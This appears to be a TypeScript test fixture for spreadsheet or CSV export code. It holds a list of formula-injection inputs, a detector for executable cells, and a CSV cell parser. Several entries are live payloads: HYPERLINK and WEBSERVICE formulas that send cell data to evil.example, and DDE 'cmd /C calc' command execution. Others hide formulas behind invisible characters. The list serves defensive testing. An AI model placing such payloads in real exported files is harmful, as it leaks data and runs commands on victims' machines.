/** Texts that spreadsheets would run, call out with, or take apart, for the tests of whatever writes cells. */
export const FORMULAS: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=HYPERLINK("http://evil.example/?"&A1,"click")', '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTXML("http://evil.example","//a")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@cmd', '=DDE("cmd";"/C calc";"x")',
  ' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\r\n=1+1', '\u00a0=1+1', '\ufeff=1+1', '   +1', '＝1+1', '＋1', '－1+1', '＠SUM(1)', '"=1+1"', '",=1+1', 'a\n=1+1', '=', '-', '--1', '-x', '-1e5', "'=1+1", "''=1", 'x,=1+1', '{=1+1}', '%=1', '=\u0000', '=A1:A9', '\u0001=1+1', '\u200b=1+1', '\u2066\u202e@cmd',
]

/** Whether a cell as a spreadsheet reads it is one that it may run, once what nobody sees was taken off: told apart from how they are written. */
export const runs = (cell: string): boolean => {
  const [first] = cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')
  return !/^\s*-?\d+(\.\d+)?\s*$/.test(cell) && ((first !== undefined && '=+-@＝＋－＠'.includes(first)) || '\t\r\0'.includes(cell[0] ?? 'x'))
}

/** The cells of a CSV, read apart from the product's own reader (RFC 4180). */
export function cellsOf(text: string): string[] {
  const cells: string[] = []
  for (const [, quoted, plain] of text.replace(/^\ufeff/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*?))(?:,|\r?\n|$)/g)) cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
  return cells
}
